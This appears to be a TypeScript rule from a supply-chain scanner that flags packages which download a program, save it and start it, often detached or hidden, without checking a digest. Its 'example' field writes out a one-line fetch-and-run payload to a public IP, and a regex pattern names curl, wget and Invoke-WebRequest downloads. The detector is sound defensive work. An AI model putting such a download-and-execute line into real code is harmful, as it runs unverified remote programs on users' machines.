import type { Severity } from "../../../model/finding.ts";
import { isCollectionHost, isLocalHost, isPasteHost, isPublicAddress } from "../hosts.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import { placeOf } from "../view.ts";
import { optionOf } from "../../program/targets.ts";
import type { Use } from "../../program/uses.ts";
import { hasFlow, textsOf } from "../../program/value.ts";

export const runsDownloadedPrograms: Rule = {
  id: "runs-downloaded-programs",
  title: "Downloads a program and runs it",
  why:
    "Honest packages that fetch their binary name a release host and hold the bytes against a digest that is " +
    "written in the package. Payloads fetch from anywhere, check nothing and start it out of sight.",
  example:
    'https.get("http://198.51.100.7/a", (r) => r.pipe(fs.createWriteStream("/tmp/a")).on("close", () => spawn("/tmp/a", { detached: true })));',
  advice:
    "Find out what the program is and who publishes it; prefer a package that ships or pins it.",
  severity: "high",
  confidence: "medium",
  look: (view) => view.spawns.flatMap((use) => sightingOf(use, view)),
};

function sightingOf(use: Use, view: LensView): readonly Sighting[] {
  const uses = view.usesOf(use.module);
  const written = [...writtenFromNetwork(uses), ...savedByCommands(uses, view)];
  if (written.length === 0) return [];
  const programs = new Set(view.commandsOf(use).flatMap(programIn));
  const [program] = use.args;
  const isSame = written.some(({ path, node }) =>
    path === undefined ? node !== undefined && node === program : programs.has(path),
  );
  if (!isSame) return [];
  const checks = uses.some(({ path }) => path === "crypto.createHash");
  const hosts = view.sends
    .filter((each) => each.module === use.module)
    .flatMap((each) => view.hostsOf(each));
  const bad = hosts.find(
    (host) => isPublicAddress(host) || isCollectionHost(host) || isPasteHost(host),
  );
  if (bad === undefined && checks) return [];
  if (hosts.length > 0 && hosts.every(isLocalHost)) return [];
  const isLoose = optionOf(use, "detached") === true;
  const hidden = isLoose || optionOf(use, "windowsHide") === true;
  const from =
    bad ?? hosts.find((host) => !host.includes("…")) ?? "an address that is not written out";
  const byImport = view.isRunByImport(use);
  const unasked = view.isAtInstall(use.module) || byImport;
  const message = `A program is downloaded from ${from}, saved and started${
    hidden ? " out of sight" : ""
  }; nothing checks what it is.`;
  const severity =
    bad !== undefined ? "critical" : severityOf({ isLoose, hidden, unasked, byImport });
  return [
    { place: placeOf(use), message, severity, confidence: bad === undefined ? "low" : "high" },
  ];
}

function severityOf(start: {
  readonly isLoose: boolean;
  readonly hidden: boolean;
  readonly unasked: boolean;
  readonly byImport: boolean;
}): Severity {
  if (start.hidden) return start.unasked && start.isLoose ? "high" : "medium";
  // Hooks that fetch a program for this machine are common; imports that do are not.
  return start.byImport ? "medium" : "low";
}

/** What a command line starts: its first word, or the file that an interpreter is given. */
function programIn(command: string): readonly string[] {
  const [first = "", second = ""] = command.split(/\s+/);
  return /^(?:node|sh|bash|python3?|sudo|start|wine|nohup|chmod|open)$/.test(first)
    ? [second]
    : [first];
}

interface Written {
  readonly path: string | undefined;
  readonly node: unknown;
}

/** `curl -o FILE`, `wget -O FILE`, in a command of its own. */
function savedByCommands(uses: readonly Use[], view: LensView): readonly Written[] {
  return uses
    .filter((use) => use.spec?.takes === "spawn")
    .flatMap((use) => view.commandsOf(use))
    .flatMap((line) => {
      const path = SAVED.exec(line)?.[1];
      return path === undefined ? [] : [{ path, node: undefined }];
    });
}

const SAVED =
  /\b(?:curl|wget|Invoke-WebRequest)\b[^\n]*?\s(?:-o|-O|--output|-OutFile|>)\s*["']?([^\s"'-][^\s"']*)/;

/** Files that are written with what came over the network. */
function writtenFromNetwork(uses: readonly Use[]): readonly Written[] {
  return uses.flatMap((use): readonly Written[] => {
    if (use.spec?.takes !== "write") return [];
    const data = use.args.slice(1).some((arg) => hasFlow(arg, "remote"));
    const isStream =
      use.path === "fs.createWriteStream" &&
      uses.some((each) => each.spec?.capability === "network-out");
    if (!data && !isStream) return [];
    const [target] = use.args;
    const texts = target === undefined ? [] : textsOf(target);
    return texts.length === 0
      ? [{ path: undefined, node: target }]
      : texts.map((path) => ({ path, node: undefined }));
  });
}
